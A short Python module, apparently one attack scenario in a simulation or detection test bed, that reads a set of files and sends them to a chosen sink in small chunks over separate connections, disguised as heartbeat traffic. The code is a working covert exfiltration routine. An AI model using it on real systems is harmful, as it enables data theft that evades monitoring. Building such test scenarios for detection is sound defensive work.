# SPDX-License-Identifier: GPL-3.0-or-later
"""A few hundred bytes at a time, each in a connection of its own, as if they were heartbeats."""
import random
import socket
import time

KIND = "attack"
PERSONALITIES = ("one", "worker", "scans", "helper", "foreign")


def product(world):
    rng = random.Random(world["seed"])
    content = b"".join(open(path, "rb").read() for path in world["files"])
    sink, at = rng.choice(world["sinks"]), 0
    while at < len(content):
        size = rng.randint(300, 400)
        with socket.create_connection(sink) as sock:
            sock.sendall(content[at:at + size])
        at += size
        time.sleep(rng.uniform(0, 0.004))
